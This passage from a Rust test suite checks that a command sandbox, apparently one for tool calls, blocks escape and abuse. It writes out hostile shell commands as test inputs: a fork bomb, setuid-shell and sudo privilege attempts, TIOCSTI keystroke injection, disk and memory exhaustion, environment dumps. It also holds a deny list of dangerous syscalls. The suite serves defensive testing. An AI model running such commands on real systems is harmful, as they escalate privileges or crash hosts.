        &p_std(),
        "grep -E 'NoNewPrivs|Seccomp:|Cap(Inh|Prm|Eff|Bnd|Amb)' /proc/self/status | tr -d ':\\t' | sed 's/\\([A-Za-z]*\\)\\(.*\\)/\\1 \\2/'; \
         python3 -c \"import ctypes;print('nnp', ctypes.CDLL(None).prctl(39,0,0,0,0))\"; echo \"core $(ulimit -Hc)\"; echo \"nofile $(ulimit -Hn)\"",
    );
    expect(&out, "NoNewPrivs", &["1"]);
    expect(&out, "Seccomp", &["2"]);
    for cap in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
        expect(&out, cap, &["0000000000000000"]);
    }
    expect(&out, "nnp", &["1"]);
    expect(&out, "core", &["0"]);
    expect(&out, "nofile", &["256"]);
});

case!(e36_regaining_privilege, |c| {
    let out = c.run(
        &p_std(),
        "sudo -n id >/dev/null 2>&1; echo \"sudo $?\"; su -c id </dev/null >/dev/null 2>&1; echo \"su $?\"; \
         cp /bin/sh ./sh && chmod u+s ./sh; ./sh -p -c 'grep CapEff /proc/self/status' | tr -d ':\\t' | sed 's/CapEff/suideff /'; \
         python3 -c \"from t import *; t('setuid', lambda: os.setuid(0)); print('effafter', open('/proc/self/status').read().split('CapEff:')[1].split()[0])\"",
    );
    expect_fail(&out, "sudo");
    expect_fail(&out, "su");
    expect(&out, "suideff", &["0000000000000000"]);
    expect(&out, "effafter", &["0000000000000000"]);
    if !is_root() {
        expect(&out, "setuid", &["EPERM", "EINVAL"]);
    }
});

case!(e37_namespaces_inside, |c| {
    let out = c.run(
        &p_std(),
        &format!(
            "unshare -Ur id >/dev/null 2>&1; echo \"unshareU $?\"; unshare -n true >/dev/null 2>&1; echo \"unshareN $?\"; {}",
            py("sc('pyunshare', 272, 0x10000000); \
                a=(ctypes.c_uint64*11)(0x10000000); sc('clone3', 435, ctypes.addressof(a), 88); \
                sc('setns', 308, 0, 0); sc('clone_newuser', 56, 0x10000000|17, 0, 0, 0, 0)")
        ),
    );
    expect_fail(&out, "unshareU");
    expect_fail(&out, "unshareN");
    expect(&out, "pyunshare", &["EPERM"]);
    expect(&out, "clone3", &["ENOSYS"]);
    expect(&out, "setns", &["EPERM"]);
    expect(&out, "clone_newuser", &["EPERM"]);
});

case!(e38_tiocsti_tioclinux, |c| {
    let marker = format!("/tmp/tiocsti-pwned-{}", c.name);
    let out = c.run(
        &p_std(),
        &py(&format!(
            "import termios; b=ctypes.create_string_buffer(b't'); \
             [sc('sti%d' % fd, 16, fd, 0x5412, ctypes.addressof(b)) for fd in (0,1,2)]; \
             sc('stihigh', 16, 0, 0x5412 | (1 << 32), ctypes.addressof(b)); \
             sc('linux', 16, 0, 0x541C, ctypes.addressof(b)); \
             t('pyiocsti', lambda: [fcntl.ioctl(0, termios.TIOCSTI, bytes([ch])) for ch in b'touch {marker}\\n'])"
        )),
    );
    for l in ["sti0", "sti1", "sti2", "stihigh", "linux", "pyiocsti"] {
        expect(&out, l, &["EPERM"]);
    }
    assert_absent(&[&marker]);
});

/// (label, x86_64 number, args) of calls that must be denied.
const SWEEP: &[(&str, i64, &str)] = &[
    ("bpf", 321, "0,0,0"),
    ("perf_event_open", 298, "0,0,-1,-1,0"),
    ("userfaultfd", 323, "0"),
    ("kexec_load", 246, "0,0,0,0"),
    ("kexec_file_load", 320, "-1,-1,0,0,0"),
    ("init_module", 175, "0,0,0"),
    ("finit_module", 313, "-1,0,0"),
    ("delete_module", 176, "0,0"),
    ("add_key", 248, "0,0,0,0,0"),
    ("request_key", 249, "0,0,0,0"),
    ("keyctl", 250, "0,0,0,0,0"),
    ("open_by_handle_at", 304, "-1,0,0"),
    ("name_to_handle_at", 303, "-1,0,0,0,0"),
    ("mount", 165, "0,0,0,0,0"),
    ("umount2", 166, "0,0"),
    ("pivot_root", 155, "0,0"),
    ("move_mount", 429, "-1,0,-1,0,0"),
    ("fsopen", 430, "0,0"),
    ("fsmount", 432, "-1,0,0"),
    ("open_tree", 428, "-1,0,0"),
    ("mount_setattr", 442, "-1,0,0,0,0"),
    ("swapon", 167, "0,0"),
    ("swapoff", 168, "0"),
    ("reboot", 169, "0,0,0,0"),
    ("syslog", 103, "3,0,0"),
    ("acct", 163, "0"),
    ("quotactl", 179, "0,0,0,0"),
    ("setns", 308, "-1,0"),
    ("personality", 135, "0x0400000"),
    ("fanotify_init", 300, "0,0"),
    ("ioperm", 173, "0,0,0"),
    ("iopl", 172, "0"),
    ("process_madvise", 440, "-1,0,0,0,0"),
    ("kcmp", 312, "0,0,0,0,0"),
    ("ptrace", 101, "0,0,0,0"),
    ("process_vm_readv", 310, "0,0,0,0,0,0"),
    ("process_vm_writev", 311, "0,0,0,0,0,0"),
    ("pidfd_getfd", 438, "-1,0,0"),
    ("io_uring_setup", 425, "0,0"),
    ("shmget", 29, "0,0,0"),
    ("msgget", 68, "0,0"),
    ("semget", 64, "0,0,0"),
    ("chroot", 161, "0"),
    ("x32_getpid", 0x4000_0000 | 39, ""),
];

/// Calls the allowlist must pass (their own errors, never EPERM).
const CONTROL: &[(&str, i64, &str, &str)] = &[
    ("read", 0, "-1,0,0", "EBADF"),
    ("write", 1, "-1,0,0", "EBADF"),
    ("openat", 257, "-100,0,0", "EFAULT"),
    ("execve", 59, "0,0,0", "EFAULT"),
    ("clone", 56, "0x11,1,0,0,0", "OK|EINVAL|EFAULT"),
    ("mmap", 9, "0,4096,1,0x22,-1,0", "OK"),
    ("futex", 202, "0,0,0,0,0,0", "EFAULT"),
    ("pipe2", 293, "0,0", "EFAULT"),
    ("wait4", 61, "-1,0,0,0", "ECHILD"),
    ("personality_query", 135, "0xffffffff", "OK"),
];

case!(e39_dangerous_syscall_sweep, |c| {
    let mut code = String::new();
    for (l, nr, args) in SWEEP {
        let sep = if args.is_empty() { "" } else { ", " };
        code.push_str(&format!("sc('{l}', {nr}{sep}{args}); "));
    }
    for (l, nr, args, _) in CONTROL {
        if *l == "clone" {
            continue; // a raw clone would fork python; covered by the corpus instead
        }
        code.push_str(&format!("sc('{l}', {nr}, {args}); "));
    }
    let out = c.run(&p_std(), &py(&code));
    for (l, _, _) in SWEEP {
        expect(&out, l, &["EPERM"]);
    }
    for (l, _, _, want) in CONTROL {
        if *l == "clone" {
            continue;
        }
        expect(&out, l, &want.split('|').collect::<Vec<_>>());
    }
    // Foreign architecture (i386 int 0x80 getpid): the process is killed (SIGSYS).
    let out = c.run(
        &p_std(),
        "python3 -c \"import ctypes,mmap;m=mmap.mmap(-1,4096,prot=7);m.write(b'\\xb8\\x14\\x00\\x00\\x00\\xcd\\x80\\xc3');\
         a=ctypes.addressof(ctypes.c_char.from_buffer(m));print('int80', ctypes.CFUNCTYPE(ctypes.c_int)(a)())\"; echo \"int80rc $?\"",
    );
    expect(&out, "int80rc", &["159"]); // 128 + SIGSYS
});

case!(e40_enforcement_recorded_downgrades_refused, |c| {
    let marker = c.w.join("ran");
    for fault in [
        Fault::LandlockAbi(5),
        Fault::SeccompInstall,
        Fault::CapDrop,
        Fault::LandlockRestrict,
    ] {
        let mut req = c.request(&["touch", "ran"]);
        req.fault = Some(fault);
        let err = ollie_sandbox::run(&p_std(), &req).expect_err("forced downgrade must refuse");
        let msg = anyhow_chain(&err);
        match fault {
            Fault::LandlockAbi(_) => {
                assert!(msg.starts_with("landlock ABI 5 < required 7"), "{msg}")
            }
            Fault::SeccompInstall => assert!(msg.contains("seccomp"), "{msg}"),
            Fault::CapDrop => assert!(msg.contains("capability"), "{msg}"),
            Fault::LandlockRestrict => assert!(msg.contains("landlock"), "{msg}"),
        }
        assert!(!msg.contains('\n'));
        assert!(!marker.exists(), "{fault:?}: the command ran");
    }
    // best_effort is the only way to run degraded, and it is recorded.
    let pol = p_std_with(|t| t.replace("best_effort = false", "best_effort = true"));
    let mut req = c.request(&["touch", "ran"]);
    req.fault = Some(Fault::LandlockAbi(5));
    let out = ollie_sandbox::run(&pol, &req).unwrap();
    assert!(out.record.layers.best_effort_degraded);
    assert_eq!(
        serde_json::to_value(out.record.layers.landlock.status).unwrap(),
        "partially_enforced"
    );
    assert_eq!(out.record.layers.landlock.abi, 5);
    assert!(out.record.layers.landlock.scopes.is_empty());
});

// ---------------------------------------------------------------------------------------------
// F. Resources

case!(f41_fork_bomb, |c| {
    let pol = p_std_with(|t| {
        with_limits(
            t,
            "processes = 64\ntimeout_seconds = 3\nkill_grace_ms = 200",
        )
    });
    let out = c.run(&pol, ":(){ :|:& };:; wait");
    assert!(out.record.exit.timed_out || out.record.exit.code.is_some());
    assert!(procs_with(":|:&").is_empty());
    // The runner still answers right away (check_healthy ran inside `run`).
});

case!(memory f42_memory_exhaustion, |c| {
    let pol = p_std_with(|t| with_limits(t, "address_space_bytes = 1073741824"));
    let out = c.run(
        &pol,
        &py("t('big', lambda: bytearray(1<<36)); t('many', lambda: [bytearray(1<<20) for _ in range(10**6)])"),
    );
    expect(&out, "big", &["MemoryError"]);
    expect(&out, "many", &["MemoryError"]);
});

/// Whether a memory cgroup bounds runs here (the probe tries to make one, as a run would).
/// Without one: SKIP with the probe's reason, or a failure under `OLLIE_TEST_REQUIRE=all` (CI
/// runs as root, and `scripts/test-unprivileged.sh` delegates a memory cgroup to its user).
fn memory_cgroup_ok(case: &str) -> bool {
    let m = ollie_sandbox::probe().cgroups.memory;
    if m.available() {
        return true;
    }
    let line = format!(
        "SKIP {case}: no memory cgroup: {}",
        m.reason.unwrap_or_default()
    );
    if ollie_testkit::require_all() {
        panic!("{line} (OLLIE_TEST_REQUIRE=all)");
    }
    skip(&line);
    false
}

/// Runs `fill(kind, step, total)` under `pol` while sampling the host's Shmem; the output,
/// what the script printed, and the peak Shmem growth (sampled, or seen by the script).
fn run_fill(
    c: &Ctx,
    pol: &Policy,
    kind: &str,
    step: u64,
    total: u64,
) -> (RunOutput, memory::Fill, u64) {
    std::fs::write(c.w.join("fill.py"), memory::FILL_PY).unwrap();
    let sampler = memory::ShmemSampler::start();
    let call = format!(
        "from fill import *; {}",
        memory::fill_call(kind, step, total)
    );
    let out = c.run_with(pol, &c.request(&["python3", "-c", &call]));
    let sampled = sampler.stop();
    let fill = memory::parse_fill(&String::from_utf8_lossy(&out.stdout));
    let growth = sampled.max(fill.growth);
    (out, fill, growth)
}

/// The fill was stopped at the memory cgroup: an allocation failed, or the cgroup's OOM killer
/// ended the run (recorded as `killed_by = "memory_limit"`).
#[track_caller]
fn stopped_by_the_memory_cgroup(out: &RunOutput, fill: &memory::Fill) {
    assert!(!fill.all, "the fill completed: {fill:?}");
    let killed = out.record.exit.signal == Some(libc::SIGKILL)
        && out.record.exit.killed_by == Some(ollie_sandbox::KilledBy::MemoryLimit);
    let failed = matches!(fill.stopped.as_deref(), Some("ENOMEM" | "EFBIG" | "ENOSPC"));
    assert!(
        killed || failed,
        "not stopped at the memory bound: {fill:?}, exit {:?}, stderr {}",
        out.record.exit,
        String::from_utf8_lossy(&out.stderr)
    );
    if killed {
        assert!(
            out.record.layers.memory.oom_kills > 0,
            "{:?}",
            out.record.layers.memory
        );
    }
}

case!(memory f42b_memory_held_by_fds_stops_at_the_memory_cgroup, |c| {
    // memfd_create + posix_fallocate (and tmpfs files) hold shared memory that RLIMIT_AS does
    // not count: only the run's memory cgroup (`limits.memory_bytes`) bounds it.
    use memory::{MIB, SLACK};
    if !memory_cgroup_ok(&c.name) {
        return;
    }
    let bound = 256 * MIB;
    let pol = p_std_with(|t| {
        with_limits(
            t,
            &format!(
                "memory_bytes = {bound}\nshm_bytes = {}\ntimeout_seconds = 60\nkill_grace_ms = 200",
                64 * MIB
            ),
        )
    });
    let (out, fill, growth) = run_fill(c, &pol, "memfd", 64 * MIB, 3 * bound);
    stopped_by_the_memory_cgroup(&out, &fill);
    assert!(
        growth <= bound + SLACK,
        "host Shmem grew by {} MiB under a {} MiB bound ({fill:?})",
        growth >> 20,
        bound >> 20
    );
    // The record names the cgroup and its bound; the cgroup is gone after the run.
    let m = &out.record.layers.memory;
    let cg = m.cgroup.clone().expect("a memory cgroup");
    assert_eq!(m.max_bytes, Some(bound), "{m:?}");
    assert_eq!(m.bound, ollie_sandbox::MemoryBound::Cgroup, "{m:?}");
    assert!(m.reason.is_none(), "{m:?}");
    assert!(!cg.exists(), "memory cgroup {} left behind", cg.display());
    let json: serde_json::Value = serde_json::from_str(&out.record.to_json()).unwrap();
    assert_eq!(json["layers"]["memory"]["cgroup"], cg.to_str().unwrap());
    assert_eq!(json["layers"]["memory"]["max_bytes"], bound);
    assert_eq!(out.record.limits.memory_bytes, bound);
    eprintln!(
        "{}: memfd fill held {} MiB, host Shmem grew by at most {} MiB (bound {} MiB), exit {:?}",
        c.name,
        fill.held >> 20,
        growth >> 20,
        bound >> 20,
        out.record.exit
    );

    // The run's private /dev/shm (a tmpfs) stops at `shm_bytes` first…
    let (out, fill, growth) = run_fill(c, &pol, "shm", 16 * MIB, 256 * MIB);
    assert_eq!(fill.stopped.as_deref(), Some("ENOSPC"), "{fill:?}");
    assert!(fill.held <= 64 * MIB, "{fill:?}");
    assert!(growth <= 64 * MIB + SLACK, "{} MiB", growth >> 20);
    assert_eq!(out.record.exit.killed_by, None);
    // …and where `shm_bytes` is larger than the memory bound, at the cgroup.
    let big_shm = p_std_with(|t| {
        with_limits(
            t,
            &format!(
                "memory_bytes = {bound}\nshm_bytes = {}\ntimeout_seconds = 60\nkill_grace_ms = 200",
                1024 * MIB
            ),
        )
    });
    let before = memory::host_shmem();
    let (out, fill, growth) = run_fill(c, &big_shm, "shm", 64 * MIB, 3 * bound);
    stopped_by_the_memory_cgroup(&out, &fill);
    assert!(
        growth <= bound + SLACK,
        "host Shmem grew by {} MiB under a {} MiB bound ({fill:?})",
        growth >> 20,
        bound >> 20
    );
    // The tmpfs went away with the run's mount namespace.
    let left = memory::host_shmem().saturating_sub(before);
    assert!(
        left <= SLACK,
        "{} MiB of Shmem left after the run",
        left >> 20
    );
});

case!(memory f42c_memory_held_by_fds_is_bounded_in_every_mode, |c| {
    // The attack of f42b in every mode, with or without a memory cgroup: hold 2 GiB in memfds,
    // then in /dev/shm files, under a 256 MiB budget. With a cgroup it stops there; without
    // one (an unprivileged user without delegation) `memfd_create` is denied and the private
    // /dev/shm is no larger than `memory_bytes` (here `shm_bytes` asks for 1 GiB). An approved
    // unsandboxed run mounts nothing: it has the host's /dev/shm, which the script leaves alone
    // (documented residual risk).
    use memory::{MIB, SLACK};
    use std::os::unix::fs::MetadataExt;
    let host_shm = std::fs::metadata("/dev/shm").map_or(0, |m| m.dev());
    let bound = 256 * MIB;
    let pol = p_std_with(|t| {
        with_limits(
            t,
            &format!(
                "memory_bytes = {bound}\naddress_space_bytes = {bound}\nshm_bytes = {}\ntimeout_seconds = 120\nkill_grace_ms = 200",
                1024 * MIB
            ),
        )
    });
    let script = format!(
        "python3 - <<'EOF'\n{}\nfill('memfd', {}, {})\nif os.stat('/dev/shm').st_dev == {host_shm}:\n    print('host shm')\nelse:\n    fill('shm', {}, {})\nEOF",
        memory::FILL_PY,
        64 * MIB,
        2048 * MIB,
        64 * MIB,
        2048 * MIB
    );
    let sampler = std::sync::Mutex::new(Some(memory::ShmemSampler::start()));
    in_every_mode(c, &pol, &script, &|mode, out| {
        let growth = sampler.lock().unwrap().take().map_or(0, |s| s.stop());
        let text = String::from_utf8_lossy(&out.stdout);
        let m = &out.record.layers.memory;
        let held: Vec<u64> = text
            .lines()
            .filter_map(|l| l.strip_prefix("held "))
            .filter_map(|l| l.split_whitespace().next()?.parse().ok())
            .collect();
        assert!(
            !text.lines().any(|l| l.starts_with("all ")),
            "{mode}: the fill completed: {text} ({m:?})"
        );
        assert!(
            held.iter().all(|h| *h <= bound),
            "{mode}: held more than {} MiB: {text} ({m:?})",
            bound >> 20
        );
        assert!(
            growth <= bound + SLACK,
            "{mode}: host Shmem grew by {} MiB under a {} MiB bound: {text}",
            growth >> 20,
            bound >> 20
        );
        if m.bound == ollie_sandbox::MemoryBound::RlimitAsOnly {
            assert_eq!(m.memfd, ollie_sandbox::MemfdAccess::Denied, "{mode}: {m:?}");
            let stops: Vec<&str> = text
                .lines()
                .filter_map(|l| l.strip_prefix("stopped "))
                .collect();
            if mode == "unsandboxed" {
                assert_eq!(stops, ["EPERM"], "{mode}: {text}");
                assert!(text.contains("host shm"), "{mode}: {text}");
            } else {
                assert_eq!(stops, ["EPERM", "ENOSPC"], "{mode}: {text}");
            }
            let json: serde_json::Value = serde_json::from_str(&out.record.to_json()).unwrap();
            assert_eq!(json["layers"]["memory"]["memfd"], "denied", "{mode}");
        } else {
            assert_eq!(
                m.memfd,
                ollie_sandbox::MemfdAccess::Allowed,
                "{mode}: {m:?}"
            );
        }
        eprintln!(
            "{}: {mode}: bound {:?}, memfd {:?}, held at most {} MiB, host Shmem grew by at most {} MiB",
            c.name,
            m.bound,
            m.memfd,
            held.iter().max().copied().unwrap_or(0) >> 20,
            growth >> 20
        );
        *sampler.lock().unwrap() = Some(memory::ShmemSampler::start());
    });
    if let Some(s) = sampler.lock().unwrap().take() {
        s.stop();
    }
});

case!(f43_cpu_burn, |c| {
    let pol = p_std_with(|t| with_limits(t, "cpu_seconds = 1\ntimeout_seconds = 30"));
    let out = c.run(&pol, "exec sh -c 'while :; do :; done'");
    assert!(
        matches!(out.record.exit.signal, Some(s) if s == libc::SIGXCPU || s == libc::SIGKILL)
            || out.record.exit.timed_out,
        "{:?}",
        out.record.exit
    );
});

case!(disk f44_filling_the_disk, |c| {
    // One file stops at RLIMIT_FSIZE; the aggregate (many files, each under it) stops at
    // `limits.disk_bytes` (the runner's disk watchdog), well before the 2 GiB loop ends.
    let limit: u64 = 32 << 20;
    let pol = p_std_with(|t| {
        with_limits(
            t,
            &format!("file_size_bytes = 1048576\ndisk_bytes = {limit}\nkill_grace_ms = 200"),
        )
    });
    let out = c.run(
        &pol,
        "fallocate -l 200G big; echo \"fallocate $?\"; dd if=/dev/zero of=big2 bs=1M count=200 2>/dev/null; echo \"dd $?\"; \
         for i in $(seq 2048); do head -c 1048576 /dev/zero > f$i || { echo \"head $?\"; break; }; done; echo aggregate-finished",
    );
    expect_fail(&out, "fallocate");
    expect(&out, "dd", &["153"]); // 128 + SIGXFSZ
    let size = std::fs::metadata(c.w.join("big2"))
        .map(|m| m.len())
        .unwrap_or(0);
    assert!(size <= 1 << 20);
    // The aggregate was stopped by the runner, which says why.
    assert!(!String::from_utf8_lossy(&out.stdout).contains("aggregate-finished"));
    assert_eq!(
        out.record.exit.killed_by,
        Some(ollie_sandbox::KilledBy::DiskLimit)
    );
    let hit = out.record.exit.disk_limit.clone().unwrap();
    assert_eq!(hit.limit, ollie_sandbox::DiskLimit::DiskBytes);
    assert!(hit.observed > limit);
    let written: u64 = walk(&c.w)
        .iter()
        .filter_map(|p| std::fs::metadata(p).ok())
        .map(|m| m.len())
        .sum();
    assert!(
        written <= limit + (32 << 20),
        "{}: wrote {written} bytes",
        c.name
    );
});

case!(disk f45_inode_exhaustion_bounded, |c| {
    // Bounded by `limits.disk_inodes` (the runner's disk watchdog), long before the timeout;
    // afterwards the host can clean the workspace.
    let limit: u64 = 10_000;
    let pol = p_std_with(|t| {
        with_limits(
            t,
            &format!("disk_inodes = {limit}\ntimeout_seconds = 60\nkill_grace_ms = 200"),
        )
    });
    let out = c.run(
        &pol,
        "mkdir d && cd d && seq 1 5000000 | xargs touch; echo inodes-finished",
    );
    assert!(!String::from_utf8_lossy(&out.stdout).contains("inodes-finished"));
    assert!(!out.record.exit.timed_out);
    assert_eq!(
        out.record.exit.killed_by,
        Some(ollie_sandbox::KilledBy::DiskLimit)
    );
    let hit = out.record.exit.disk_limit.clone().unwrap();
    assert_eq!(hit.limit, ollie_sandbox::DiskLimit::DiskInodes);
    let created = std::fs::read_dir(c.w.join("d")).unwrap().count() as u64;
    assert!(created <= 3 * limit, "{}: created {created} files", c.name);
    std::fs::remove_dir_all(c.w.join("d")).unwrap();
    assert!(!c.w.join("d").exists());
});

case!(f46_output_flood, |c| {
    let pol = p_std_with(|t| {
        with_limits(
            t,
            "output_bytes = 65536\ntimeout_seconds = 3\nkill_grace_ms = 100",
        )
    });
    let out = c.run(&pol, "yes | head -c 20000000; cat /dev/urandom");
    assert!(out.record.stdout.truncated);
    assert_eq!(out.stdout.len(), 65536);
    assert_eq!(out.record.stdout.captured_bytes, 65536);
    assert!(out.record.stdout.total_bytes > 20_000_000);
    assert!(out.record.exit.timed_out);
});

// ---------------------------------------------------------------------------------------------
// G. Environment, H. descriptors, I. (sandbox-side part)

case!(g48_environment_dump, |c| {
    let out = c.run(&p_std(), "env; tr '\\0' '\\n' < /proc/self/environ");
    let text = String::from_utf8_lossy(&out.stdout).to_string();
    let allowed = [
        "PATH", "HOME", "LANG", "TMPDIR", "PWD", "SHLVL", "_", "OLDPWD",
    ];
    for line in text.lines() {
        let name = line.split('=').next().unwrap();
        assert!(allowed.contains(&name), "unexpected variable {name}");
    }
    assert!(text.contains("PATH=/usr/local/bin:/usr/bin:/bin"));
    assert!(!text.contains("/should/not/leak"));
    for (k, _) in &c.env {
        assert!(!text.contains(k.as_str()), "{k} visible");
    }
});

case!(h50_inherited_descriptors, |c| {
    // A stray descriptor in the runner (the harness holds many) must not reach the tool.
    let _stray = std::fs::File::open("/etc/hostname").unwrap();
    let out = c.run(
        &p_std(),
        "echo \"fds $(ls /proc/self/fd | tr '\\n' ' ')\"; n=0; for fd in 3 4 5 6 7 8 9 10 63 255; do (cat <&$fd) >/dev/null 2>&1 && n=$((n+1)); done; echo \"readable $n\"",
    );
    expect(&out, "fds", &["0 1 2 3"]);
    expect(&out, "readable", &["0"]);
});

case!(i57_approval_does_not_widen_next_run, |c| {
    let a = TcpCanary::v4();
    let p = a.port();
    // An approved escalation = a run under a wider policy (network to the canary port).
    let granted = Policy::from_toml(
        &profile_text("network").replace("connect = [53, 80, 443]", &format!("connect = [{p}]")),
    )
    .unwrap();
    let out = c.run(
        &granted,
        &py(&format!(
            "t('granted', lambda: socket.create_connection(('127.0.0.1', {p}), 2))"
        )),
    );
    expect(&out, "granted", &["OK"]);
    assert!(a.0.accept().is_ok(), "approved connection should arrive");
    let out = c.run(
        &p_std(),
        &format!("curl -m3 -s http://127.0.0.1:{p}/ >/dev/null 2>&1; echo \"curl $?\""),
    );
    expect_fail(&out, "curl");
    a.assert_untouched();
    // Landlock's port rules: another port stays closed even under the granted policy.
    let other = TcpCanary::v4();
    let out = c.run(
        &granted,
        &py(&format!(
            "t('other', lambda: socket.create_connection(('127.0.0.1', {}), 2))",
            other.port()
        )),
    );
    expect(&out, "other", &["EACCES"]);
    // Binding: no bind port is granted, so seccomp refuses bind (and listen) outright.
    let out = c.run(
        &granted,
        &py("t('bind', lambda: socket.socket().bind(('127.0.0.1', 0)))"),
    );
    expect(&out, "bind", &["EPERM"]);
    other.assert_untouched();
});

// ---------------------------------------------------------------------------------------------
// J. What a run may leave for the host, in every sandbox mode (issue 20)

const SETID_PY: &str = include_str!("escapes/setid.py");

/// Set-id files and directories below `dir` (S_ISUID or S_ISGID; symlinks not followed).
fn setid_under(dir: &Path) -> Vec<(PathBuf, u32)> {
    let mut out = Vec::new();
    let Ok(rd) = std::fs::read_dir(dir) else {
        return out;
    };
    for e in rd.flatten() {
        let Ok(md) = std::fs::symlink_metadata(e.path()) else {
            continue;
        };
        if md.permissions().mode() & 0o6000 != 0 {
            out.push((e.path(), md.permissions().mode() & 0o7777));
        }
        if md.is_dir() {
            out.extend(setid_under(&e.path()));
        }
    }
    out
}

/// Empties the workspace but for the probe scripts.
fn reset_workspace(c: &Ctx) {
    for e in std::fs::read_dir(&c.w).unwrap().flatten() {
        let n = e.file_name();
        if n == "t.py" || n == "setid.py" || n == "reach.py" {
            continue;
        }
        let p = e.path();
        if p.is_dir() && !p.is_symlink() {
            std::fs::remove_dir_all(&p).unwrap();
        } else {
            std::fs::remove_file(&p).unwrap();
        }
    }
}

/// A bead-style union at `/ctx` for a run: one read-only lower layer holding a set-id file
/// the host made, a writable upper layer.
struct Union {
    mount: ollie_sandbox::UnionMount,
}

impl Union {
    fn new(c: &Ctx) -> Union {
        let base = c.root.join("union");
        let _ = std::fs::remove_dir_all(&base);
        let (lower, upper, work) = (base.join("lower"), base.join("upper"), base.join("work"));
        for d in [&lower, &upper, &work] {
            std::fs::create_dir_all(d).unwrap();
        }
        std::fs::copy("/bin/true", lower.join("tool")).unwrap();
        std::fs::set_permissions(lower.join("tool"), std::fs::Permissions::from_mode(0o4755))
            .unwrap();
        Union {
            mount: ollie_sandbox::UnionMount {
                point: "/ctx".into(),
                lowers: vec![lower],
                upper,
                work,
            },
        }
    }
}

/// Every sandbox mode a tool call can run in, as `(name, output)`: one-shot, prepared (the
/// session's zygote), with a bead union (one-shot, and in a prepared sandbox whose call
/// mounts it), escalated but sandboxed (an approved `write:`
/// grant), and approved unsandboxed. The workspace is emptied (but for the probes) before
/// each; `after` checks what each left on the host.
fn in_every_mode(c: &Ctx, policy: &Policy, script: &str, after: &dyn Fn(&str, &RunOutput)) {
    in_every_mode_with(c, policy, script, &|| {}, after);
}

/// [`in_every_mode`], with `setup` run on the host after each reset of the workspace.
fn in_every_mode_with(
    c: &Ctx,
    policy: &Policy,
    script: &str,
    setup: &dyn Fn(),
    after: &dyn Fn(&str, &RunOutput),
) {
    use ollie_policy::{Grant, ResolveContext};
    let reset_workspace = |c: &Ctx| {
        reset_workspace(c);
        setup();
    };
    let ctx = ResolveContext {
        workdir: c.w.canonicalize().unwrap(),
        home: c.home.clone(),
        extra_secrets: Vec::new(),
    };
    let extra = c.root.join("extra");
    std::fs::create_dir_all(&extra).unwrap();
    let req = c.request(&["bash", "-c", script]);
    reset_workspace(c);
    let before = c.hashes();
    let out = ollie_sandbox::run(policy, &req).unwrap();
    assert_eq!(before, c.hashes(), "one-shot: a canary file changed");
    c.check_no_leak(&out, &[]);
    after("one-shot", &out);

    reset_workspace(c);
    let prepared = ollie_sandbox::Prepared::new(policy, &c.w, &c.home).unwrap();
    let out = prepared.run(&req).unwrap();
    drop(prepared);
    after("prepared", &out);

    reset_workspace(c);
    let u = Union::new(c);
    let mut ureq = c.request(&["bash", "-c", script]);
    ureq.unions = vec![u.mount.clone()];
    let out = ollie_sandbox::run(policy, &ureq).unwrap();
    assert!(
        setid_under(&u.mount.upper).is_empty(),
        "union: set-id file in the upper layer: {:?}",
        setid_under(&u.mount.upper)
    );
    after("union", &out);

    reset_workspace(c);
    let u = Union::new(c);
    let prepared = ollie_sandbox::Prepared::new_with_points(
        policy,
        &c.w,
        &c.home,
        &[],
        std::slice::from_ref(&u.mount.point),
    )
    .unwrap();
    let out = prepared.run(&ureq).unwrap();
    drop(prepared);
    assert!(
        setid_under(&u.mount.upper).is_empty(),
        "prepared union: set-id file in the upper layer: {:?}",
        setid_under(&u.mount.upper)
    );
    after("prepared union", &out);

    reset_workspace(c);
    let esc = policy
        .with_grants(&[Grant::Write(extra.clone())], &ctx)
        .unwrap();
    let out = ollie_sandbox::run(&esc, &req).unwrap();
    after("escalated", &out);

    reset_workspace(c);
    let unsandboxed = policy.with_grants(&[Grant::Unsandboxed], &ctx).unwrap();
    let out = ollie_sandbox::run(&unsandboxed, &req).unwrap();
    after("unsandboxed", &out);
    assert!(setid_under(&extra).is_empty());
}

case!(j01_no_set_id_file_is_left_behind, |c| {
    std::fs::write(c.w.join("setid.py"), SETID_PY).unwrap();
    let script = "python3 setid.py; cp /bin/sh x; chmod 4755 x; echo \"cp4755 $?\"; \
                  chmod 2755 x; echo \"cp2755 $?\"; install -m 4755 /bin/true inst; echo \"install $?\"; \
                  cp -p x y; chmod u+s,g+s y; echo \"symbolic $?\"; \
                  [ -e /ctx/tool ] && { cat /ctx/tool >/dev/null; echo x >> /ctx/tool; touch /ctx/tool; \
                  chmod 4711 /ctx/tool; echo \"union $?\"; }; true";
    let check = |mode: &str, out: &RunOutput| {
        for tag in ["suid", "sgid"] {
            for call in [
                "chmod",
                "fchmod",
                "fchmodat",
                "fchmodat2",
                "open",
                "openat",
                "creat",
                "mknod",
                "mknodat",
                "mkdir",
                "mkdirat",
                "tmpfile",
                "chmoddir",
            ] {
                expect(out, &format!("{call}_{tag}"), &["EPERM"]);
            }
        }
        expect(out, "openat2", &["ENOSYS"]);
        for l in ["cp4755", "cp2755", "install", "symbolic"] {
            expect_fail(out, l);
        }
        for l in ["chmod_plain", "open_plain", "mkdir_sticky"] {
            expect(out, l, &["OK"]);
        }
        let left = setid_under(&c.w);
        assert!(
            left.is_empty(),
            "{mode}: set-id files left in the workspace: {left:?}"
        );
        assert!(
            !out.record
                .post_run
                .flags
                .iter()
                .any(|f| f.kind == ollie_sandbox::FlagKind::SetId),
            "{mode}: {:?}",
            out.record.post_run.flags
        );
    };
    in_every_mode(c, &p_std(), script, &check);
});

case!(j02_set_id_files_in_writable_trees_are_reported, |c| {
    // Defence in depth: a set-id file that is there after a run (here the host put it
    // there) is reported by the post-run diff, in one-shot and prepared runs.
    std::fs::create_dir_all(c.w.join("bin")).unwrap();
    std::fs::copy("/bin/true", c.w.join("bin/helper")).unwrap();
    std::fs::set_permissions(
        c.w.join("bin/helper"),
        std::fs::Permissions::from_mode(0o4755),
    )
    .unwrap();
    let out = c.run(&p_std(), "true");
    let prepared = ollie_sandbox::Prepared::new(&p_std(), &c.w, &c.home).unwrap();
    let pout = prepared.run(&c.request(&["/bin/true"])).unwrap();
    for o in [&out, &pout] {
        assert!(
            o.record
                .post_run
                .flags
                .iter()
                .any(|f| f.kind == ollie_sandbox::FlagKind::SetId
                    && f.path == Path::new("bin/helper")
                    && f.detail == "mode 4755"),
            "{:?}",
            o.record.post_run.flags
        );
    }
});

/// The repositories a nested-repository attack plants (issue 48 item 4): an existing one in a
